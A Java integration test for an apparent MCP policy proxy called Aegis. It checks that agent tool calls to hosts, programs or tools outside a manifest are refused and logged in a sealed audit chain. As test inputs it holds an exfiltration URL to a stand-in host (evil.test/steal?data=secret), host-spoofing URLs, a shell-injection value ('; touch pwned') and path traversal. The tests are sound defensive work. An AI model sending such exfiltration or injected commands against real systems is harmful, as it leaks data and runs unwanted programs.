package dev.aegis.cli.it;

import static org.assertj.core.api.Assertions.assertThat;

import dev.aegis.testsupport.NodePeers;
import dev.aegis.testsupport.PythonPeers;
import io.modelcontextprotocol.client.McpClient;
import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.client.transport.ServerParameters;
import io.modelcontextprotocol.client.transport.StdioClientTransport;
import io.modelcontextprotocol.json.McpJsonDefaults;
import io.modelcontextprotocol.spec.McpSchema.CallToolRequest;
import io.modelcontextprotocol.spec.McpSchema.CallToolResult;
import io.modelcontextprotocol.spec.McpSchema.TextContent;
import io.modelcontextprotocol.spec.McpSchema.Tool;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Predicate;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Rules 1, 2, 5 and 6 end to end: the MCP Java SDK client talks through bin/aegis-proxy to real
 * servers — the reference fetch server (PyPI mcp-server-fetch) and mcp-server-commands (npm) —
 * under the manifests in examples/manifests. Each refusal is checked where the agent sees it (the
 * tool result's structuredContent) and where the auditor does (the sealed chain), and each is shown
 * never to have reached the server. All traffic stays on loopback.
 */
class EgressExecIT {
  private static final Duration TIMEOUT = Duration.ofSeconds(60);

  @TempDir Path dir;

  private String store() {
    return "sqlite:" + dir.resolve("chain.db");
  }

  /** An initialised SDK client whose server is aegis-proxy wrapping {@code server}. */
  private McpSyncClient client(String session, String manifest, List<String> server) {
    List<String> args =
        new ArrayList<>(
            List.of(
                "--store",
                store(),
                "--session",
                session,
                "--manifest",
                ProxyProcess.ROOT.resolve("examples/manifests").resolve(manifest).toString(),
                "--"));
    args.addAll(server);
    ServerParameters params =
        ServerParameters.builder(ProxyProcess.bin("aegis-proxy").toString()).args(args).build();
    StdioClientTransport transport = new StdioClientTransport(params, McpJsonDefaults.getMapper());
    transport.setStdErrorHandler(
        line -> System.err.println("[aegis-proxy " + session + "] " + line));
    McpSyncClient client =
        McpClient.sync(transport).requestTimeout(TIMEOUT).initializationTimeout(TIMEOUT).build();
    client.initialize();
    return client;
  }

  @Test
  void fetchReachesOnlyTheManifestsHostsAndDeniedUrlsNeverLeaveTheProxy() throws Exception {
    Map<String, String> verdicts = new LinkedHashMap<>();
    Map<String, CallToolResult> results = new LinkedHashMap<>();
    try (LoopbackPages pages = LoopbackPages.start()) {
      String loopback = "http://" + pages.authority() + "/hello.txt";
      // The manifest allows 127.0.0.1 and *.docs.test. Named hosts go through the page server as
      // the fetch server's HTTP proxy, so no name is resolved and nothing leaves loopback.
      verdicts.put(loopback, "OK");
      verdicts.put("http://evil.test/steal?data=secret", "EGRESS_DENY");
      verdicts.put("HTTP://API.Docs.TEST/Guide", "OK"); // hosts compare case-insensitively
      verdicts.put("http://a.b.docs.test/deep", "OK"); // *.docs.test: any depth of subdomain
      verdicts.put("http://docs.test/apex", "EGRESS_DENY"); // ...but not docs.test itself
      verdicts.put("http://docs.test.evil.test/x", "EGRESS_DENY"); // a suffix is not a subdomain
      verdicts.put("http://api.docs.test@evil.test/x", "EGRESS_DENY"); // userinfo, host evil.test
      List<String> server =
          PythonPeers.fetchServer(
              List.of(
                  "--ignore-robots-txt",
                  "--allow-private-ips",
                  "--proxy-url",
                  "http://" + pages.authority()));
      McpSyncClient client = client("fetch", "mcp-server-fetch.json", server);
      try {
        assertThat(client.listTools().tools()).extracting(Tool::name).containsExactly("fetch");
        for (String url : verdicts.keySet()) {
          results.put(url, client.callTool(new CallToolRequest("fetch", Map.of("url", url))));
        }
      } finally {
        client.closeGracefully();
      }
      assertThat(text(results.get(loopback)))
          .contains(LoopbackPages.page(pages.authority(), "/hello.txt"));
      assertThat(text(results.get("HTTP://API.Docs.TEST/Guide")))
          .contains(LoopbackPages.page("api.docs.test", "/Guide"));
      assertThat(text(results.get("http://a.b.docs.test/deep")))
          .contains(LoopbackPages.page("a.b.docs.test", "/deep"));
      assertThat(pages.requests())
          .as("the server was asked only for the allowed hosts")
          .containsExactly(
              new LoopbackPages.Request(pages.authority(), "/hello.txt"),
              new LoopbackPages.Request("api.docs.test", "/Guide"),
              new LoopbackPages.Request("a.b.docs.test", "/deep"));
    }
    verdicts.forEach(
        (url, reason) -> {
          CallToolResult r = results.get(url);
          assertThat(reason(r)).as(url).isEqualTo(reason.equals("OK") ? null : reason);
          assertThat(Boolean.TRUE.equals(r.isError())).as(url).isEqualTo(!reason.equals("OK"));
        });
    List<Chains.Event> chain = Chains.readFinished(store(), "default", "fetch");
    verdicts.forEach(
        (url, reason) ->
            assertSealed(
                chain, url, p -> url.equals(p.payload().at("/args/url").asText()), reason));
    assertThat(Chains.verify(store(), "default", "fetch").valid()).isTrue();
  }

  @Test
  void runCommandRunsOnlyAllowedProgramsAndATaintedSessionRunsNothing() throws Exception {
    Path work = Files.createDirectories(dir.resolve("work"));
    Files.writeString(work.resolve("a.txt"), "alpha\n");
    Files.writeString(work.resolve("b.txt"), "beta\n");
    Path pwned = work.resolve("pwned");
    Map<String, String> verdicts = new LinkedHashMap<>();
    // Untainted first: no tool result has been seen yet, so rule 6 decides.
    verdicts.put("touch " + pwned, "EXEC_DENY"); // touch is not in allowed_bins
    verdicts.put("/bin/ls -1 " + work, "EXEC_DENY"); // the listed name is ls, not /bin/ls
    verdicts.put("ls -la " + work, "EXEC_DENY"); // -la matches no arg_pattern
    verdicts.put("ls -1 " + work + "/../..", "EXEC_DENY"); // the path pattern admits no ".."
    verdicts.put("ls -1 " + work + "; touch " + pwned, "EXEC_DENY"); // a second program via sh
    verdicts.put("ls -1 " + work, "OK");
    // That result tainted the session (taint mode session): run_command is an exec tool, so a
    // high-risk sink, and rule 5 comes before rule 6 — even an unlisted binary is
    // TAINTED_TO_HIGH_RISK, not EXEC_DENY.
    verdicts.put("wc -c " + work.resolve("a.txt"), "TAINTED_TO_HIGH_RISK");
    verdicts.put("touch " + pwned + " " + work.resolve("b.txt"), "TAINTED_TO_HIGH_RISK");
    Map<String, CallToolResult> results = new LinkedHashMap<>();
    McpSyncClient client = client("exec", "mcp-server-commands.json", NodePeers.commandsServer());
    try {
      assertThat(client.listTools().tools()).extracting(Tool::name).containsExactly("run_command");
      for (String command : verdicts.keySet()) {
        results.put(
            command,
            client.callTool(new CallToolRequest("run_command", Map.of("command", command))));
      }
    } finally {
      client.closeGracefully();
    }
    assertThat(text(results.get("ls -1 " + work))).isEqualTo("a.txt\nb.txt\n");
    verdicts.forEach(
        (command, reason) -> {
          CallToolResult r = results.get(command);
          assertThat(reason(r)).as(command).isEqualTo(reason.equals("OK") ? null : reason);
          assertThat(Boolean.TRUE.equals(r.isError())).as(command).isEqualTo(!reason.equals("OK"));
        });
    assertThat(pwned).as("no denied command ran").doesNotExist();
    List<Chains.Event> chain = Chains.readFinished(store(), "default", "exec");
    verdicts.forEach(
        (command, reason) ->
            assertSealed(
                chain,
                command,
                p -> command.equals(p.payload().at("/args/command").asText()),
                reason));
    assertThat(Chains.verify(store(), "default", "exec").valid()).isTrue();
  }

  @Test
  void anUndeclaredToolOfARealServerIsHiddenAndDeniedWithoutReachingIt() throws Exception {
    // server-everything's get-env would hand the agent the server's environment; the manifest
    // does not declare it.
    McpSyncClient client =
        client("undeclared", "server-everything.json", NodePeers.everythingServer());
    CallToolResult echo;
    CallToolResult env;
    try {
      assertThat(client.listTools().tools())
          .extracting(Tool::name)
          .contains("echo")
          .doesNotContain("get-env");
      echo = client.callTool(new CallToolRequest("echo", Map.of("message", "hi")));
      env = client.callTool(new CallToolRequest("get-env", Map.of()));
    } finally {
      client.closeGracefully();
    }
    assertThat(text(echo)).contains("hi");
    assertThat(reason(env)).isEqualTo("PERMISSION_UNDECLARED");
    assertThat(env.isError()).isTrue();
    List<Chains.Event> chain = Chains.readFinished(store(), "default", "undeclared");
    assertSealed(chain, "echo", p -> "echo".equals(p.field("tool_name")), "OK");
    assertSealed(
        chain, "get-env", p -> "get-env".equals(p.field("tool_name")), "PERMISSION_UNDECLARED");
    assertThat(Chains.verify(store(), "default", "undeclared").valid()).isTrue();
  }

  /**
   * Finds the one proposal that {@code which} selects and checks its sealed trail: the decision's
   * reason, then TOOL_CALL_EXECUTED and TOOL_RESULT when allowed, or TOOL_CALL_DENIED and no
   * TOOL_CALL_EXECUTED when denied (the call never reached the server).
   */
  private static void assertSealed(
      List<Chains.Event> chain, String label, Predicate<Chains.Event> which, String reason) {
    List<Chains.Event> proposals =
        chain.stream().filter(e -> e.type().equals("TOOL_CALL_PROPOSED")).filter(which).toList();
    assertThat(proposals).as(label).hasSize(1);
    String callId = proposals.get(0).field("call_id");
    Map<String, List<Chains.Event>> trail =
        chain.stream()
            .filter(e -> callId.equals(e.field("call_id")))
            .collect(Collectors.groupingBy(Chains.Event::type));
    assertThat(trail.get("POLICY_DECISION")).as(label).hasSize(1);
    assertThat(trail.get("POLICY_DECISION").get(0).field("reason")).as(label).isEqualTo(reason);
    if (reason.equals("OK")) {
      assertThat(trail).as(label).containsKeys("TOOL_CALL_ALLOWED", "TOOL_CALL_EXECUTED");
      assertThat(trail).as(label).containsKey("TOOL_RESULT");
    } else {
      assertThat(trail.get("TOOL_CALL_DENIED")).as(label).hasSize(1);
      assertThat(trail.get("TOOL_CALL_DENIED").get(0).field("reason")).as(label).isEqualTo(reason);
      assertThat(trail).as(label).doesNotContainKeys("TOOL_CALL_EXECUTED", "TOOL_RESULT");
    }
  }

  /** The Aegis reason of a refused call ({@code structuredContent.aegis.reason}), else null. */
  private static String reason(CallToolResult result) {
    if (result.structuredContent() instanceof Map<?, ?> content
        && content.get("aegis") instanceof Map<?, ?> aegis) {
      return String.valueOf(aegis.get("reason"));
    }
    return null;
  }

  private static String text(CallToolResult result) {
    return result.content().stream()
        .filter(TextContent.class::isInstance)
        .map(c -> ((TextContent) c).text())
        .collect(Collectors.joining());
  }
}
